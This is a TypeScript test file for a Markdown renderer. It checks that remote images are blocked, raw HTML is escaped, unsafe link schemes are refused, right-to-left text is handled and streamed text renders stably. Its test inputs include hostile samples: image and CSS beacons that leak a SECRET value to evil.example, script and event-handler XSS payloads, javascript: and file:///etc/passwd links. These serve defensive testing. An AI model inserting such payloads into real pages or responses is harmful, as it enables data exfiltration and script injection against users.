import { fireEvent, render } from "@testing-library/react";
import { describe, expect, test, vi } from "vitest";
import { Markdown, TooltipProvider } from "../src/index.ts";
import { draw } from "./draw.tsx";

function html(text: string): HTMLElement {
  return draw(<Markdown text={text} />);
}

describe("field bug 24: no image is loaded", () => {
  test.each([
    ["inline", "![x](https://evil.example/p.png?q=SECRET)"],
    ["reference", "![x][r]\n\nSome text.\n\n[r]: https://evil.example/p.png?q=SECRET"],
    ["shortcut reference", "![r]\n\n[r]: https://evil.example/p.png?q=SECRET"],
    [
      "reference before its use",
      "[r]: https://evil.example/p.png?q=SECRET\n\ntext\n\n![x][r]",
    ],
    ["raw", 'a <img src="https://evil.example/p.png?q=SECRET" alt="x"> b'],
    ["raw block", '<img src="https://evil.example/p.png?q=SECRET">'],
    [
      "raw, in a block of HTML",
      '<div>\n<IMG SRC="https://evil.example/p.png?q=SECRET">\n</div>',
    ],
    ["protocol-relative", "![x](//evil.example/p.png?q=SECRET)"],
    [
      "raw with srcset",
      '<img src="https://evil.example/p.png?q=SECRET" srcset="//evil.example/q 2x">',
    ],
    [
      "raw, across lines",
      '<img\n  src="https://evil.example/p.png?q=SECRET"\n  alt="x">',
    ],
    ["raw, in a list", '- a <img src="https://evil.example/p.png?q=SECRET"> b'],
    ["in a heading", "# ![x](https://evil.example/p.png?q=SECRET)"],
    ["in a quote", "> ![x](https://evil.example/p.png?q=SECRET)"],
    ["collapsed reference", "![r][]\n\n[r]: https://evil.example/p.png?q=SECRET"],
    ["raw, protocol-relative", '<img src="//evil.example/p.png?q=SECRET">'],
    ["in a link", "[![x](https://evil.example/p.png?q=SECRET)](https://evil.example/)"],
    ["in a table", "| a |\n|---|\n| ![x](https://evil.example/p.png?q=SECRET) |"],
  ])("%s", (_, text) => {
    const drawn = html(text);
    expect(
      drawn.querySelector("img, picture, video, iframe, object, embed, svg image"),
    ).toBeNull();
    expect(drawn.querySelectorAll(".blocked-image")).toHaveLength(1);
    expect(drawn.textContent).toContain("evil.example");
    const button = drawn.querySelector<HTMLAnchorElement>(".blocked-image a");
    expect(button?.href).toBe("https://evil.example/p.png?q=SECRET");
    expect(button?.target).toBe("_blank");
    expect(button?.rel).toBe("noopener noreferrer");
  });

  test.each(["data:image/png;base64,AAAA", "javascript:alert(1)", "blob:x", "x.png", ""])(
    "an address that cannot be opened has no button: %s",
    (address) => {
      const drawn = html(`![x](<${address}>)`);
      expect(drawn.querySelector("img")).toBeNull();
      expect(drawn.querySelector(".blocked-image a")).toBeNull();
    },
  );
});

describe("raw HTML stays text", () => {
  test.each([
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)><image href=https://evil.example/x></svg>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<video src=https://evil.example poster=https://evil.example></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<link rel=prefetch href=https://evil.example/p?q=SECRET>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/p.svg></object>",
    "<embed src=https://evil.example/p>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<input type=image src=https://evil.example/p.png>",
    "<div style='background:url(https://evil.example/p.png?q=SECRET)'>x</div>",
    "<table background=https://evil.example/p.png><tr><td>x</td></tr></table>",
    "<picture><source srcset=https://evil.example/p.png></picture>",
    "a <span style=background:url(//evil.example/p)>inline</span> tag",
  ])("%s", (text) => {
    const drawn = html(text);
    const prose = drawn.querySelector(".prose");
    expect(
      prose?.querySelector(
        "script,iframe,svg,style,video,form,meta,details,link,base,object,embed,audio,input,picture,source,table",
      ),
    ).toBeNull();
    expect(prose?.innerHTML).not.toMatch(/<[^>]*(?:url\(|srcset|background=)/i);
    expect(prose?.textContent).toContain(text.slice(0, 6));
  });
});

describe("links", () => {
  test("open in a new tab that knows nothing of this one", () => {
    const link = html("[docs](https://example.org/a)").querySelector("a");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.title).toContain("example.org");
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
  ])("%s is no link", (address) => {
    const drawn = html(`[x](${address})`);
    expect(drawn.querySelector("a")).toBeNull();
    expect(drawn.textContent).toContain("x");
  });

  test("a path of the project opens the file, where somebody can open it", () => {
    const open = vi.fn();
    const drawn = draw(<Markdown text="[x](a/my%20page.html)" onOpenFile={open} />);
    const button = drawn.querySelector("button.link");
    expect(button).not.toBeNull();
    fireEvent.click(button as Element);
    expect(open).toHaveBeenCalledWith("a/my page.html");
    expect(html("[x](page.html)").querySelector("a, button.link")).toBeNull();
  });
});

describe("field bug 40: direction and emphasis", () => {
  test("bold stands next to CJK punctuation", () => {
    const strong = html("**重要：**本文です").querySelector("strong");
    expect(strong?.textContent).toBe("重要：");
  });

  test("each block has its own direction, code is left to right", () => {
    const drawn = html(
      "مرحبا Vitrail بكم\n\nAn English paragraph.\n\n- שלום\n- עולם\n\n```js\nlet a;\n```\n\n`x`",
    );
    const paragraphs = [...drawn.querySelectorAll("p")].map((one) => one.dir);
    expect(new Set(paragraphs)).toEqual(new Set(["auto"]));
    expect(drawn.querySelector("ul")?.dir).toBe("rtl");
    expect(drawn.querySelector("figure")?.dir).toBe("ltr");
    expect(drawn.querySelector("p code")?.getAttribute("dir")).toBe("ltr");
  });

  test("a signed number keeps its sign on its left", () => {
    const number = html("انخفض بنسبة -3.5% اليوم").querySelector("bdi");
    expect(number?.textContent).toBe("-3.5%");
    expect(number?.dir).toBe("ltr");
    expect(html("It fell by -3.5% today").querySelector("bdi")).toBeNull();
  });
});

describe("text that grows", () => {
  test("what is settled stays the same element, and a selection stays", () => {
    const first = "One *settled* paragraph.\n\nA second one that gr";
    const view = (text: string) => (
      <TooltipProvider>
        <Markdown text={text} isStreaming />
      </TooltipProvider>
    );
    const { container, rerender } = render(view(first));
    const [settled, growing] = container.querySelectorAll("p");
    const node = growing?.querySelector("span")?.firstChild;
    const range = document.createRange();
    range.setStart(node as Node, 2);
    range.setEnd(node as Node, 8);
    document.getSelection()?.addRange(range);
    expect(document.getSelection()?.toString()).toBe("second");
    rerender(view(`${first}ows and grows.\n\nA third`));
    expect(container.querySelectorAll("p")[0]).toBe(settled);
    expect(container.querySelectorAll("p")[1]).toBe(growing);
    expect(document.getSelection()?.toString()).toBe("second");
    expect(container.textContent).toContain("grows and grows.");
  });

  test("it reads the same at every length as when it comes whole", () => {
    const text =
      "# T\n\nA **b** [l][r].\n\n1. one\n\n   more\n2. two\n\n```js\nlet a = 1;\n\n// b\n```\nEnd\n\n[r]: https://example.org\n";
    const view = (part: string, isStreaming: boolean) => (
      <TooltipProvider>
        <Markdown text={part} isStreaming={isStreaming} />
      </TooltipProvider>
    );
    const growing = render(view("", true));
    for (let end = 1; end <= text.length; end += 1) {
      growing.rerender(view(text.slice(0, end), true));
    }
    growing.rerender(view(text, false));
    const whole = render(view(text, false));
    const plain = (element: HTMLElement) => element.innerHTML.replace(/radix-[^"]+/g, "");
    expect(plain(growing.container)).toBe(plain(whole.container));
    expect(whole.container.querySelector("a")?.textContent).toBe("l");
  });

  test("tangled text is shown as it is", () => {
    const tangled = "[".repeat(5000);
    expect(html(tangled).textContent).toBe(tangled);
    const nested = `${"> ".repeat(200)}deep`;
    expect(html(nested).textContent).toContain("deep");
  });
});
